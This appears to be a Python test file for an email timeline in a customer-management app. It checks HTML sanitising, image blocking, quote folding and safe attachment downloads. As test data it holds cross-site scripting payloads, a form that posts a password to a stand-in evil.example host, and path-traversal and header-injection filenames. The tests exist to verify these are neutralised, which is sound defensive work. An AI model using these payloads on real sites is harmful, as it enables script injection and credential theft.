"""How a stored email shows on the timeline: sanitised HTML, images held back, quoted
history folded, attachments downloaded with safe names and types, automatic mail quiet."""
import email.message
import re
import uuid

import pytest
from playhouse.test_utils import count_queries

from conftest import make_account, make_contact, make_entry, text_of
from models.db import utcnow
from models.emails import Email, EmailAttachment
from models.inbox import file_on_timeline

HOSTILE_HTML = """
<p>Dear team,</p>
<p>Please see the <b>order</b> below.</p>
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">click me</a>
<a href="JaVaScRiPt&#x3A;alert('entity')">encoded</a>
<a href="https://example.org/catalogue" onclick="alert('click')">catalogue</a>
<style>body { display: none }</style>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<p style="background: url(https://evil.example/track.png)">styled</p>
<svg onload="alert('svg')"><circle r="1"></circle></svg>
<object data="https://evil.example/x.swf"></object>
<div class="x" id="y" data-x="z">plain div</div>
"""


def inbound_email(account=None, contact=None, state="filed", **fields):
    """A received message stored the way the poller stores one (direction in, raw kept)."""
    raw = fields.pop("raw", None)
    values = dict(direction="in", status="received", message_id=f"{uuid.uuid4().hex}@mail.example",
                  from_addr="Piet Klant <piet@klant.example>", to_addrs="sales@example.com",
                  subject="Question about the order", body_text="Hello,\nwhere is my order?",
                  received_at=utcnow().replace(microsecond=0), inbound_state=state,
                  matched_by="sender" if account else "", account=account, contact=contact,
                  raw=raw if raw is not None else b"From: piet@klant.example\r\n\r\nHello\r\n")
    values.update(fields)
    stored = Email.create(**values)
    if account is not None and state in ("filed", "auto_reply", "bounce"):
        entry = file_on_timeline(stored, account, contact)
        Email.update(timeline_entry=entry).where(Email.id == stored.id).execute()
        stored.timeline_entry = entry
    return stored


@pytest.fixture
def account(user):
    return make_account(user)


def _entry_html(auth, account, email_row):
    response = auth.get(f"/accounts/{account.id}")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    found = re.search(rf'<li class="timeline-entry[^"]*" id="entry-{email_row.timeline_entry_id}">'
                      r"(.*?)</li>\s*(?=<li class=\"timeline-entry|</ol>)", html, re.S)
    assert found, "the email's entry is on the account page"
    return found.group(1)


def test_an_email_entry_shows_sender_recipients_date_subject_and_text(auth, account):
    stored = inbound_email(account, cc_addrs="boss@klant.example",
                           body_text="Hello,\nwhere is my order 4711?")
    html = _entry_html(auth, account, stored)
    assert "Piet Klant &lt;piet@klant.example&gt;" in html
    assert "sales@example.com" in html and "boss@klant.example" in html
    assert "Question about the order" in html
    assert "where is my order 4711?" in html
    assert "sender is a contact" in html  # how it was matched


def test_hostile_html_renders_harmless(auth, account):
    stored = inbound_email(account, body_html=HOSTILE_HTML)
    html = _entry_html(auth, account, stored)
    assert "<b>order</b>" in html and "Dear team," in html
    lowered = html.lower()
    for bad in ("<script", "alert(", "onerror", "onclick", "onload", "javascript:", "<style",
                "display: none", "<iframe", "<form", "<input", "password", "style=", "<svg",
                "<object", "evil.example", 'class="x"', 'data-x'):
        assert bad not in lowered, bad
    # The safe link stays, opened apart from our page.
    assert re.search(r'<a href="https://example.org/catalogue" [^>]*rel="noopener noreferrer', html)
    assert ">click me</a>" in html  # the text of the javascript: link stays, its href not


def test_the_page_never_marks_raw_html_safe_in_text_mode(auth, account):
    stored = inbound_email(account, body_text="<script>alert(1)</script> & <b>not bold</b>")
    html = _entry_html(auth, account, stored)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;not bold&lt;/b&gt;" in html
    assert "<script>alert" not in html


def test_remote_images_are_blocked_until_asked(auth, account):
    stored = inbound_email(account, body_html=(
        '<p>Our new catalogue</p><img src="https://tracker.example/open.gif" alt="pixel">'
        '<img src="http://plain.example/photo.jpg" alt="photo">'))
    html = _entry_html(auth, account, stored)
    assert "tracker.example" not in html and "plain.example" not in html
    assert 'alt="pixel"' in html
    assert "2 remote images were not loaded." in text_of_html(html)
    link = f'/inbox/{stored.id}?images=1'
    assert f'href="{link}"' in html
    # The page's policy allows no remote image.
    page = auth.get(f"/accounts/{account.id}")
    assert "img-src 'self' data:;" in page.headers["Content-Security-Policy"]

    shown = auth.get(link)
    assert shown.status_code == 200
    body = shown.get_data(as_text=True)
    assert 'src="https://tracker.example/open.gif"' in body
    assert "plain.example" not in body  # only https images, even when asked
    assert "img-src 'self' data: https:;" in shown.headers["Content-Security-Policy"]
    assert "script-src 'self'" in shown.headers["Content-Security-Policy"]
    # Without the toggle the same page holds them back again, under the strict policy.
    plain = auth.get(f"/inbox/{stored.id}")
    assert "tracker.example" not in plain.get_data(as_text=True)
    assert "https:" not in plain.headers["Content-Security-Policy"].split("img-src")[1].split(";")[0]


def test_images_shown_on_request_are_still_sanitised(auth, account):
    stored = inbound_email(account, body_html=(
        '<img src="https://img.example/a.png" onerror="alert(1)"><script>alert(2)</script>'))
    body = auth.get(f"/inbox/{stored.id}?images=1").get_data(as_text=True)
    assert 'src="https://img.example/a.png"' in body
    assert "alert(" not in body


def text_of_html(html):
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


def _cid_message():
    message = email.message.EmailMessage()
    message["From"] = "piet@klant.example"
    message["Subject"] = "Logo"
    message.set_content("See the logo")
    message.add_alternative('<p>Our logo:</p><img src="cid:logo123@klant">', subtype="html")
    message.get_payload()[1].add_related(b"\x89PNG\r\n\x1a\nfake-png", maintype="image",
                                         subtype="png", cid="<logo123@klant>")
    message.add_attachment(b"<script>alert(1)</script>", maintype="text", subtype="html",
                           filename="evil.html")
    return message.as_bytes()


def test_inline_cid_images_come_from_the_stored_message(auth, account):
    raw = _cid_message()
    stored = inbound_email(account, raw=raw, body_html='<p>Our logo:</p><img src="cid:logo123@klant">')
    html = _entry_html(auth, account, stored)
    url = f"/emails/{stored.id}/inline/logo123@klant"
    assert f'src="{url}"' in html
    image = auth.get(url)
    assert image.status_code == 200
    assert image.data == b"\x89PNG\r\n\x1a\nfake-png"
    assert image.headers["Content-Type"] == "image/png"
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    # A part that is no image is never served inline.
    assert auth.get(f"/emails/{stored.id}/inline/nothing@here").status_code == 404


def test_quoted_history_is_folded(auth, account):
    gmail = inbound_email(account, subject="Gmail reply", body_html=(
        '<div dir="ltr">Yes, we accept the quote.</div><br>'
        '<div class="gmail_quote"><div class="gmail_attr">On Mon, 2 Mar 2026 at 10:00, '
        'Sales &lt;sales@example.com&gt; wrote:<br></div>'
        '<blockquote class="gmail_quote">Here is our quote for the tables.</blockquote></div>'))
    outlook = inbound_email(account, subject="Outlook reply", body_html=(
        '<div>We decline, too expensive.</div><div id="appendonsend"></div><hr>'
        '<div id="divRplyFwdMsg"><b>From:</b> Sales<br><b>Sent:</b> Monday</div>'
        '<div>Here is our quote for the chairs.</div>'))
    text = inbound_email(account, subject="Text reply", body_text=(
        "Thanks, that works.\n\nOn Mon, 2 Mar 2026 at 10:00, Sales wrote:\n"
        "> Here is our quote for the lamps.\n> Kind regards"))
    for stored, new, old in ((gmail, "Yes, we accept the quote.", "quote for the tables"),
                             (outlook, "We decline, too expensive.", "quote for the chairs"),
                             (text, "Thanks, that works.", "quote for the lamps")):
        html = _entry_html(auth, account, stored)
        before, _sep, folded = html.partition('<details class="email-quoted">')
        assert new in before and old not in before, stored.subject
        assert old in folded and "</summary>" in folded, stored.subject


def test_attachments_are_listed_and_downloaded_with_safe_headers(auth, account):
    stored = inbound_email(account)
    pdf = EmailAttachment.create(email=stored, filename="Bestelling 4711.pdf",
                                 content_type="application/pdf", size=12345, content=b"%PDF-1.4")
    html_file = EmailAttachment.create(email=stored, filename="page.html",
                                       content_type="text/html", size=25,
                                       content=b"<script>alert(1)</script>")
    html = _entry_html(auth, account, stored)
    assert "Bestelling 4711.pdf" in html and "12 KB" in html
    response = auth.get(f"/attachments/{pdf.id}")
    assert response.status_code == 200 and response.data == b"%PDF-1.4"
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"Bestelling 4711.pdf\"; filename*=UTF-8''Bestelling%204711.pdf")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    hostile = auth.get(f"/attachments/{html_file.id}")
    assert hostile.headers["Content-Type"] == "application/octet-stream"
    assert hostile.headers["Content-Disposition"].startswith("attachment;")


@pytest.mark.parametrize("name, ascii_part, check", [
    ("../../etc/passwd", 'filename="passwd"', lambda n: n == "passwd"),
    ("..\\..\\windows\\win.ini", 'filename="win.ini"', lambda n: n == "win.ini"),
    ("evil\r\nSet-Cookie: a=b.pdf", 'filename="evilSet-Cookie_ a_b.pdf"',
     lambda n: "\r" not in n and "\n" not in n),
    ("a" * 250 + ".pdf", None, lambda n: len(n) <= 150 and n.endswith(".pdf")),
    ("Προσφορά €.pdf", 'filename="attachment.pdf"', lambda n: n == "Προσφορά €.pdf"),
    ('quote"; filename="x.exe', None, lambda n: '"' not in n),
])
def test_hostile_attachment_names_are_made_safe(auth, account, name, ascii_part, check):
    from urllib.parse import unquote
    stored = inbound_email(account)
    attachment = EmailAttachment.create(email=stored, filename=name, content_type="application/pdf",
                                        size=3, content=b"abc")
    response = auth.get(f"/attachments/{attachment.id}")
    header = response.headers["Content-Disposition"]
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment; filename=\"")
    if ascii_part:
        assert header.startswith(f"attachment; {ascii_part}; filename*=UTF-8''")
    ascii_name = re.search(r'filename="([^"]*)"', header).group(1)
    assert "/" not in ascii_name and "\\" not in ascii_name and ".." not in ascii_name
    utf8_name = unquote(header.split("filename*=UTF-8''")[1])
    assert check(utf8_name), utf8_name
    assert "/" not in utf8_name and "\\" not in utf8_name


def test_unknown_attachment_is_404(auth):
    assert auth.get("/attachments/999999").status_code == 404
    assert auth.get("/attachments/99999999999").status_code == 404


def test_attachments_need_a_login(client, account):
    stored = inbound_email(account)
    attachment = EmailAttachment.create(email=stored, filename="a.pdf", size=1, content=b"x")
    response = client.get(f"/attachments/{attachment.id}")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_auto_replies_and_bounces_look_quiet_and_have_no_reply_button(auth, account):
    auto = inbound_email(account, state="auto_reply", subject="Out of office",
                         auto_reason="Auto-Submitted: auto-replied",
                         body_text="I am away until Monday.")
    bounce = inbound_email(account, state="bounce", subject="Undelivered Mail",
                           bounce_status="5.1.1", body_text="User unknown")
    person = inbound_email(account)
    for stored, label in ((auto, "Automatic reply"), (bounce, "Delivery failure")):
        html = _entry_html(auth, account, stored)
        assert 'class="email email-quiet"' in html
        assert label in html
        assert "/reply" not in html
        assert '<details class="email-text-folded">' in html
    assert "5.1.1" in _entry_html(auth, account, bounce)
    person_html = _entry_html(auth, account, person)
    assert "email-quiet" not in person_html
    assert f"/emails/{person.id}/reply" in person_html


def test_the_timeline_loads_emails_in_a_fixed_number_of_queries(auth, account, user):
    def queries():
        with count_queries() as counter:
            assert auth.get(f"/accounts/{account.id}").status_code == 200
        return counter.count

    make_entry(account, user)
    stored = inbound_email(account)
    EmailAttachment.create(email=stored, filename="a.pdf", size=1, content=b"x")
    few = queries()
    for number in range(6):
        other = inbound_email(account, subject=f"Mail {number}")
        EmailAttachment.create(email=other, filename=f"{number}.pdf", size=1, content=b"x")
    assert queries() == few

